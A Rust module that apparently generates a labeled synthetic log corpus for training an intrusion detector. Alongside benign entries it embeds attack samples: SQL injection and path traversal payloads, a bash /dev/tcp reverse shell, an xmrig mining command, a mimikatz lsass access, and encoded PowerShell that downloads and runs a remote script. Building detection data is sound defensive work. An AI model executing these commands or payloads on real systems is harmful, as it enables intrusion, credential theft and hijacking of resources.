//! The built-in sample corpus: realistic benign traffic and attacks (brute force, SQL
//! injection, path traversal, port scans, reverse shells, crypto-miners, credential dumping,
//! encoded PowerShell…), labeled. `POST /api/test/create-sample-agents` ships it as logs; the
//! bootstrap detector is trained on it.

use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};

/// A sample agent.
#[derive(Debug, Clone)]
pub struct SampleAgent {
    /// Host name.
    pub hostname: &'static str,
    /// OS.
    pub os: &'static str,
    /// IP.
    pub ip_address: &'static str,
}

/// The sample agents.
pub const AGENTS: [SampleAgent; 4] = [
    SampleAgent {
        hostname: "web-01",
        os: "Ubuntu 22.04",
        ip_address: "10.0.1.10",
    },
    SampleAgent {
        hostname: "db-01",
        os: "Debian 12",
        ip_address: "10.0.2.20",
    },
    SampleAgent {
        hostname: "dc-01",
        os: "Windows Server 2022",
        ip_address: "10.0.3.5",
    },
    SampleAgent {
        hostname: "laptop-42",
        os: "Windows 11",
        ip_address: "10.0.9.42",
    },
];

/// One generated log line.
#[derive(Debug, Clone)]
pub struct SampleLog {
    /// Index into [`AGENTS`].
    pub agent: usize,
    /// Source (`auth.log`, `nginx`, …).
    pub source: &'static str,
    /// Level.
    pub level: &'static str,
    /// The line.
    pub message: String,
    /// `true` for an attack.
    pub malicious: bool,
}

const USERS: [&str; 8] = [
    "alice", "bob", "carol", "deploy", "backup", "jenkins", "svc_web", "dave",
];
const PATHS: [&str; 10] = [
    "/",
    "/index.html",
    "/api/v1/orders",
    "/api/v1/users/me",
    "/static/app.js",
    "/static/site.css",
    "/login",
    "/products?page=2",
    "/search?q=blue+shoes",
    "/health",
];
const AGENTS_UA: [&str; 4] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) Safari/605.1.15",
    "curl/8.4.0",
    "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Firefox/121.0",
];
const BAD_USERS: [&str; 8] = [
    "root", "admin", "test", "oracle", "ubnt", "pi", "guest", "postgres",
];
const SQLI: [&str; 6] = [
    "1' OR '1'='1",
    "1 UNION SELECT username,password FROM users--",
    "1'; DROP TABLE orders;--",
    "1 AND SLEEP(5)",
    "admin'--",
    "1 UNION ALL SELECT NULL,table_name FROM information_schema.tables--",
];
const TRAVERSAL: [&str; 5] = [
    "/../../../../etc/passwd",
    "/static/..%2f..%2f..%2fetc%2fshadow",
    "/download?file=../../../../windows/win.ini",
    "/images/....//....//....//etc/hosts",
    "/api/v1/files?path=%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron",
];

fn ip(rng: &mut StdRng, internal: bool) -> String {
    if internal {
        format!(
            "10.0.{}.{}",
            rng.random_range(0..10),
            rng.random_range(2..250)
        )
    } else {
        format!(
            "{}.{}.{}.{}",
            [45, 89, 103, 185, 198, 203][rng.random_range(0..6)],
            rng.random_range(0..255),
            rng.random_range(0..255),
            rng.random_range(1..255)
        )
    }
}

fn pick<'a>(rng: &mut StdRng, xs: &'a [&'a str]) -> &'a str {
    xs.choose(rng).copied().unwrap_or_default()
}

fn benign(rng: &mut StdRng) -> SampleLog {
    let user = pick(rng, &USERS);
    let pid = rng.random_range(1000..65000);
    match rng.random_range(0..12) {
        0 => SampleLog {
            agent: 0,
            source: "auth.log",
            level: "info",
            malicious: false,
            message: format!(
                "sshd[{pid}]: Accepted publickey for {user} from {} port {} ssh2: ED25519 SHA256:{:x}",
                ip(rng, true),
                rng.random_range(30000..65000),
                rng.random::<u64>()
            ),
        },
        1..=3 => SampleLog {
            agent: 0,
            source: "nginx",
            level: "info",
            malicious: false,
            message: format!(
                "{} - - \"GET {} HTTP/1.1\" {} {} \"-\" \"{}\"",
                ip(rng, false),
                pick(rng, &PATHS),
                [200, 200, 200, 304, 404][rng.random_range(0..5)],
                rng.random_range(200..40000),
                pick(rng, &AGENTS_UA)
            ),
        },
        4 => SampleLog {
            agent: 0,
            source: "syslog",
            level: "info",
            malicious: false,
            message: format!("CRON[{pid}]: ({user}) CMD (/usr/local/bin/backup.sh --incremental)"),
        },
        5 => SampleLog {
            agent: 1,
            source: "postgresql",
            level: "info",
            malicious: false,
            message: format!(
                "LOG:  duration: {}.{:03} ms  statement: SELECT id, total FROM orders WHERE customer_id = {}",
                rng.random_range(0..40),
                rng.random_range(0..1000),
                rng.random_range(1..99999)
            ),
        },
        6 => SampleLog {
            agent: 1,
            source: "syslog",
            level: "info",
            malicious: false,
            message: format!(
                "systemd[1]: Started Session {} of user {user}.",
                rng.random_range(1..9999)
            ),
        },
        7 => SampleLog {
            agent: 1,
            source: "auth.log",
            level: "info",
            malicious: false,
            message: format!(
                "sudo: {user} : TTY=pts/{} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
                rng.random_range(0..5)
            ),
        },
        8 => SampleLog {
            agent: 2,
            source: "Security",
            level: "info",
            malicious: false,
            message: format!(
                "EventID=4624 An account was successfully logged on. Account Name: {user} Logon Type: 3 Source Network Address: {}",
                ip(rng, true)
            ),
        },
        9 => SampleLog {
            agent: 2,
            source: "DNS",
            level: "info",
            malicious: false,
            message: format!(
                "DNS query for {}.corp.example.com type A from {}",
                ["mail", "intranet", "files", "wiki", "git"][rng.random_range(0..5)],
                ip(rng, true)
            ),
        },
        10 => SampleLog {
            agent: 3,
            source: "Microsoft-Windows-Sysmon",
            level: "info",
            malicious: false,
            message: format!(
                "EventID=1 Process Create: Image=C:\\Program Files\\{} ParentImage=C:\\Windows\\explorer.exe User=CORP\\{user}",
                [
                    "Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
                    "Google\\Chrome\\Application\\chrome.exe",
                    "Slack\\slack.exe",
                    "Microsoft VS Code\\Code.exe"
                ][rng.random_range(0..4)]
            ),
        },
        _ => SampleLog {
            agent: 3,
            source: "Windows Update",
            level: "info",
            malicious: false,
            message: format!(
                "Installation Successful: Windows successfully installed the following update: KB50{}",
                rng.random_range(10000..99999)
            ),
        },
    }
}

fn attack(rng: &mut StdRng) -> SampleLog {
    let pid = rng.random_range(1000..65000);
    let src = ip(rng, false);
    match rng.random_range(0..9) {
        0 => SampleLog {
            agent: 0,
            source: "auth.log",
            level: "warning",
            malicious: true,
            message: format!(
                "sshd[{pid}]: Failed password for invalid user {} from {src} port {} ssh2",
                pick(rng, &BAD_USERS),
                rng.random_range(30000..65000)
            ),
        },
        1 => SampleLog {
            agent: 0,
            source: "nginx",
            level: "warning",
            malicious: true,
            message: format!(
                "{src} - - \"GET /products.php?id={} HTTP/1.1\" 500 {} \"-\" \"sqlmap/1.7.2#stable (https://sqlmap.org)\"",
                pick(rng, &SQLI).replace(' ', "%20"),
                rng.random_range(100..900)
            ),
        },
        2 => SampleLog {
            agent: 0,
            source: "nginx",
            level: "warning",
            malicious: true,
            message: format!(
                "{src} - - \"GET {} HTTP/1.1\" {} {} \"-\" \"Mozilla/5.0 zgrab/0.x\"",
                pick(rng, &TRAVERSAL),
                [400, 403, 200][rng.random_range(0..3)],
                rng.random_range(100..3000)
            ),
        },
        3 => SampleLog {
            agent: 1,
            source: "kernel",
            level: "warning",
            malicious: true,
            message: format!(
                "[UFW BLOCK] IN=eth0 OUT= SRC={src} DST=10.0.2.20 PROTO=TCP SPT={} DPT={} WINDOW=1024 SYN URGP=0 (port scan: {} ports in 2s)",
                rng.random_range(40000..65000),
                [21, 22, 23, 445, 1433, 3306, 3389, 5432, 5900, 6379][rng.random_range(0..10)],
                rng.random_range(200..2000)
            ),
        },
        4 => SampleLog {
            agent: 1,
            source: "auditd",
            level: "critical",
            malicious: true,
            message: format!(
                "type=EXECVE msg=audit({}.{}:{pid}): argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/{src}/{} 0>&1\"",
                rng.random_range(1700000000u64..1800000000),
                rng.random_range(100..999),
                [4444, 1337, 9001, 443][rng.random_range(0..4)]
            ),
        },
        5 => SampleLog {
            agent: 0,
            source: "syslog",
            level: "warning",
            malicious: true,
            message: format!(
                "kernel: process xmrig[{pid}] using 398% CPU: ./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A --donate-level 1"
            ),
        },
        6 => SampleLog {
            agent: 2,
            source: "Microsoft-Windows-Sysmon",
            level: "critical",
            malicious: true,
            message: format!(
                "EventID=10 Process Access: SourceImage=C:\\Users\\Public\\{}.exe TargetImage=C:\\Windows\\system32\\lsass.exe GrantedAccess=0x1010 (mimikatz sekurlsa::logonpasswords)",
                ["m64", "svch0st", "update"][rng.random_range(0..3)]
            ),
        },
        7 => SampleLog {
            agent: 3,
            source: "PowerShell",
            level: "critical",
            malicious: true,
            message: format!(
                "EventID=4104 powershell.exe -nop -w hidden -enc {} ; IEX (New-Object Net.WebClient).DownloadString('http://{src}/a.ps1')",
                [
                    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
                    "JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA=="
                ][rng.random_range(0..2)]
            ),
        },
        _ => SampleLog {
            agent: 2,
            source: "Security",
            level: "warning",
            malicious: true,
            message: format!(
                "EventID=4625 An account failed to log on. Account Name: {} Failure Reason: Unknown user name or bad password. Source Network Address: {src} ({} failures in 60s)",
                pick(rng, &BAD_USERS),
                rng.random_range(20..500)
            ),
        },
    }
}

/// `n` labeled logs, about `attack_ratio` of them attacks, reproducible from `seed`.
pub fn generate(n: usize, attack_ratio: f64, seed: u64) -> Vec<SampleLog> {
    let mut rng = StdRng::seed_from_u64(seed);
    (0..n)
        .map(|_| {
            if rng.random_bool(attack_ratio.clamp(0.0, 1.0)) {
                attack(&mut rng)
            } else {
                benign(&mut rng)
            }
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generator_is_seeded_and_mixed() {
        let a = generate(500, 0.1, 7);
        let b = generate(500, 0.1, 7);
        assert_eq!(
            a.iter().map(|l| &l.message).collect::<Vec<_>>(),
            b.iter().map(|l| &l.message).collect::<Vec<_>>()
        );
        let attacks = a.iter().filter(|l| l.malicious).count();
        assert!((20..100).contains(&attacks), "{attacks}");
        assert!(a.iter().all(|l| l.agent < AGENTS.len()));
    }
}
